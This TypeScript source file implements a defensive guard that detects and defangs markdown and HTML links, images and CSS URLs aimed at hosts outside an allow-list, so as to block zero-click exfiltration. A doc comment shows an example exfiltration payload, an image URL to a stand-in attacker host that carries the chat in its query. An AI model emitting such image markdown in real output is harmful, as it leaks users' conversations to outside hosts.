import { domainToASCII } from 'node:url';
import { resolveOverlaps, scanOf, type Hit } from './text.js';
import type { TextGuard, TextScan } from './types.js';

export type LinksAction = 'defang' | 'flag' | 'refuse';

/**
 * Markdown and HTML links and images whose URL leaves the allow-list. An image is fetched by the
 * client as it renders (zero-click exfiltration: `![](https://evil.example/?q=<the chat>)`); a link
 * needs a click. URLs are parsed with WHATWG URL (the parser browsers use), so `user@host`,
 * backslashes, percent-encoding and IDNs resolve to the host a client would contact.
 *
 * `defang`:
 *   - an image (markdown `![alt](url)`, HTML `<img>`, `<iframe>`, `<script>`, … anything fetched
 *     without a click) becomes `[image removed: <host>]` (alt text and URL dropped);
 *   - a link (markdown `[text](url)`, `<url>` autolink, a reference definition `[ref]: url`, HTML
 *     `<a href>`) becomes `text (hxxps://evil[.]com/path)`: scheme and dots broken so no renderer
 *     links it, the query and fragment (where exfiltrated data rides) replaced by `…`;
 *   - `javascript:`, `vbscript:`, `data:` and `file:` URLs are never allowed; relative URLs
 *     (no host: they resolve against the client's own page) always are.
 */
export interface LinksOptions {
  readonly allowHosts?: readonly string[];
  readonly action: LinksAction;
}

const RELATIVE_BASE = 'https://relative.invalid/';
const FETCHING = /^(?:img|image|iframe|frame|script|link|source|video|audio|embed|object|track|input|body|table|td|svg|use)$/i;

/** `[text](url "title")` and `![alt](url)`: text without brackets (so `[[[[…` costs one step per `[`), URL without spaces. */
const MD_LINK = /(!?)\[((?:[^\[\]\n]|\[[^\[\]\n]{0,1000}\]){0,1000})\]\([ \t]{0,8}(?:<([^<>\n]{1,4096})>|((?:[^\s()<>]|\([^\s()<>]{0,200}\)){1,4096}))(?:[ \t]{1,8}(?:"[^"\n]{0,300}"|'[^'\n]{0,300}'))?[ \t]{0,8}\)/g;
const MD_DEF = /^[ \t]{0,3}\[([^\[\]\n]{1,200})\]:[ \t]{0,8}<?([^\s<>]{1,4096})>?/gm;
const AUTOLINK = /<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]{1,4096})>/g;
const HTML_TAG = /<([a-zA-Z][a-zA-Z0-9]{0,15})\b([^<>]{1,4096})>/g;
const HTML_URL_ATTR = /\b(href|src|srcset|action|formaction|data|poster|background|xlink:href)[ \t\n]{0,8}=[ \t\n]{0,8}(?:"([^"]{0,4096})"|'([^']{0,4096})'|([^\s"'>]{1,4096}))/gi;

/**
 * Catch-alls without the length and nesting limits of the expressions above (a client has none):
 * the URL right after a markdown `](` or `]:` (one line break allowed, as CommonMark does), and
 * after an HTML URL attribute's `=` wherever it stands (a `>` or `<` inside another attribute's
 * quotes hides the tag from HTML_TAG). Only the URL token is judged and replaced, by a fragment
 * (`#removed:evil.example`) that a client resolves to its own page: nothing is fetched.
 */
const MD_URL_AFTER = /\](?:\(|:)[ \t]{0,8}\n?[ \t>]{0,8}<?([^\s<>()]+)/g;
/** CSS `url(…)` (a `style` attribute or block, `@import`) and a meta refresh's `0; url=…`: fetched or followed as the page renders. */
const CSS_URL = /\burl\([ \t\n]{0,8}["']?([^\s"'()<>]+)|;[ \t]{0,8}url=["']?([^\s"'<>;]+)/gi;
const HTML_URL_AFTER = /\b(?:href|src|srcset|action|formaction|data|poster|background|xlink:href)[ \t\n]{0,8}=[ \t\n]{0,8}["']?([^\s"'<>]+)/gi;

/** Host globs: `example.com` is that host; `*.example.com` any host below it (not itself). */
function hostMatcher(globs: readonly string[]): (host: string) => boolean {
  const exact = new Set<string>();
  const suffixes: string[] = [];
  for (const g of globs) {
    const lower = g.trim().toLowerCase();
    if (lower === '*') return () => true;
    const wild = lower.startsWith('*.');
    const ascii = domainToASCII(wild ? lower.slice(2) : lower) || lower;
    if (wild) suffixes.push(`.${ascii}`);
    else exact.add(ascii);
  }
  return (host) => exact.has(host) || suffixes.some((s) => host.endsWith(s));
}

const NAMED: Record<string, string> = { amp: '&', colon: ':', sol: '/', bsol: '\\', period: '.', lt: '<', gt: '>', quot: '"', apos: "'", tab: '\t', newline: '\n', commat: '@', num: '#', quest: '?', percnt: '%', equals: '=' };
const ENTITY = /&(?:#[xX]([0-9a-fA-F]{1,6})|#([0-9]{1,7})|([a-zA-Z]{2,8}));?|\\([!-/:-@[-`{-~])/g;

/**
 * A URL as the client reads it: HTML character references (`&#104;ttps`, `https&colon;//`) and
 * markdown backslash escapes decoded, as a renderer does before following it.
 */
function decoded(raw: string, markdownEscapes = true): string {
  if (!raw.includes('&') && !raw.includes('\\')) return raw;
  return raw.replace(ENTITY, (m, hex?: string, dec?: string, name?: string, escaped?: string) => {
    if (escaped !== undefined) return markdownEscapes ? escaped : m;
    if (name !== undefined) return NAMED[name.toLowerCase()] ?? m;
    const cp = hex !== undefined ? parseInt(hex, 16) : Number(dec);
    return cp > 0 && cp <= 0x10ffff ? String.fromCodePoint(cp) : m;
  });
}

const matchers = new WeakMap<LinksOptions, (host: string) => boolean>();
/** The host test of a guard's options, built once per options object. */
function matcherOf(opts: LinksOptions): (host: string) => boolean {
  let m = matchers.get(opts);
  if (m === undefined) matchers.set(opts, (m = hostMatcher(opts.allowHosts ?? [])));
  return m;
}

type Verdict = { readonly ok: true } | { readonly ok: false; readonly host: string; readonly defanged: string };

/** Whether `raw` may stay, and if not its host (for the placeholder) and defanged text. */
function judge(given: string, allowed: (host: string) => boolean): Verdict {
  const md = judgeOne(decoded(given), allowed);
  if (!md.ok || !given.includes('\\')) return md;
  // Raw HTML is not markdown: there `\\evil.example` keeps both backslashes (a protocol-relative URL).
  return judgeOne(decoded(given, false), allowed);
}

function judgeOne(raw: string, allowed: (host: string) => boolean): Verdict {
  let url: URL;
  try {
    url = new URL(raw.trim(), RELATIVE_BASE);
  } catch {
    return { ok: true }; // not a URL a client could follow
  }
  const scheme = url.protocol.slice(0, -1).toLowerCase();
  if (scheme === 'javascript' || scheme === 'vbscript' || scheme === 'data' || scheme === 'file') {
    return { ok: false, host: `${scheme} URL`, defanged: `[${scheme} URL removed]` };
  }
  if (scheme === 'mailto' || scheme === 'tel') return { ok: true };
  if (url.host === 'relative.invalid' && !/^[a-z][a-z0-9+.-]*:|^\/\/|^\\\\/i.test(raw.trim())) return { ok: true };
  const host = url.hostname.replace(/^\[|\]$/g, '');
  if (host !== '' && allowed(host)) return { ok: true };
  const tail = url.search !== '' || url.hash !== '' ? '…' : '';
  const defanged = `${scheme.replace(/^http/, 'hxxp').replace(/^ftp/, 'fxp')}://${url.host.replace(/\./g, '[.]')}${url.pathname}${tail}`;
  return { ok: false, host: host === '' ? `${scheme} URL` : host, defanged };
}

const imageText = (host: string): string => `[image removed: ${host}]`;

export function findLinks(text: string, opts: LinksOptions, depth = 0): Hit[] {
  if (!text.includes(':') && !text.includes('/') && !text.includes('\\')) return []; // `\\host` is `//host` to a browser
  const allowed = matcherOf(opts);
  const hits: Hit[] = [];
  const add = (start: number, end: number, replacement: string): void => {
    hits.push({ start, end, kind: 'link', replacement });
  };
  if (text.includes('](')) {
    MD_LINK.lastIndex = 0;
    for (let m = MD_LINK.exec(text); m !== null; m = MD_LINK.exec(text)) {
      const v = judge(m[3] ?? m[4] ?? '', allowed);
      if (v.ok) {
        MD_LINK.lastIndex = m.index + 1; // an allowed link may hold an image that is not: `[![x](evil)](ok)`
        continue;
      }
      // A defanged link's text may itself hold links (`[![badge](img)](href)`): judged too.
      const at = MD_LINK.lastIndex;
      const inner = m[1] === '!' ? '' : depth < 1 ? scanLinksAt(m[2] ?? '', opts, depth + 1).text : (m[2] ?? '');
      MD_LINK.lastIndex = at; // the inner scan used the same expression
      add(m.index, m.index + m[0].length, m[1] === '!' ? imageText(v.host) : `${inner} (${v.defanged})`);
    }
  }
  if (text.includes(']:')) {
    MD_DEF.lastIndex = 0;
    for (let m = MD_DEF.exec(text); m !== null; m = MD_DEF.exec(text)) {
      const v = judge(m[2] ?? '', allowed);
      if (!v.ok) add(m.index, m.index + m[0].length, `[${m[1] ?? ''}]: ${v.defanged}`);
    }
  }
  if (text.includes('<')) {
    AUTOLINK.lastIndex = 0;
    for (let m = AUTOLINK.exec(text); m !== null; m = AUTOLINK.exec(text)) {
      const v = judge(m[1] ?? '', allowed);
      if (!v.ok) add(m.index, m.index + m[0].length, v.defanged);
    }
    HTML_TAG.lastIndex = 0;
    for (let m = HTML_TAG.exec(text); m !== null; m = HTML_TAG.exec(text)) {
      const tag = m[1] ?? '';
      const attrs = m[2] ?? '';
      HTML_URL_ATTR.lastIndex = 0;
      let bad: Verdict | undefined;
      for (let a = HTML_URL_ATTR.exec(attrs); a !== null && bad === undefined; a = HTML_URL_ATTR.exec(attrs)) {
        const value = a[2] ?? a[3] ?? a[4] ?? '';
        // srcset lists "url 2x, url 480w": each URL is judged.
        const urls = a[1]?.toLowerCase() === 'srcset' ? value.split(',').map((u) => u.trim().split(/\s/)[0] ?? '') : [value];
        for (const u of urls) {
          const v = judge(u, allowed);
          if (!v.ok) {
            bad = v;
            break;
          }
        }
      }
      if (bad === undefined || bad.ok) continue;
      add(m.index, m.index + m[0].length, FETCHING.test(tag) ? imageText(bad.host) : `[${bad.defanged}]`);
    }
  }
  // Catch-alls last: where a construct above already matched, its (earlier) hit wins.
  const removeUrl = (re: RegExp): void => {
    re.lastIndex = 0;
    for (let m = re.exec(text); m !== null; m = re.exec(text)) {
      const token = m[1] ?? m[2] ?? '';
      const v = judge(token, allowed);
      const end = m.index + m[0].length;
      if (!v.ok) add(end - token.length, end, `#removed:${v.host.replace(/[^a-zA-Z0-9.:-]/g, '')}`);
    }
  };
  if (text.includes('](') || text.includes(']:')) removeUrl(MD_URL_AFTER);
  if (text.includes('=')) removeUrl(HTML_URL_AFTER);
  if (/url[(=]/i.test(text)) removeUrl(CSS_URL);
  return resolveOverlaps(hits);
}

function scanLinksAt(text: string, opts: LinksOptions, depth: number): TextScan {
  return scanOf(text, findLinks(text, opts, depth), opts.action, opts.action === 'defang');
}

export const scanLinks = (text: string, opts: LinksOptions): TextScan => scanLinksAt(text, opts, 0);

export const linksGuard = (opts: LinksOptions): TextGuard => ({
  name: 'links',
  scan: (text) => scanLinks(text, opts),
});
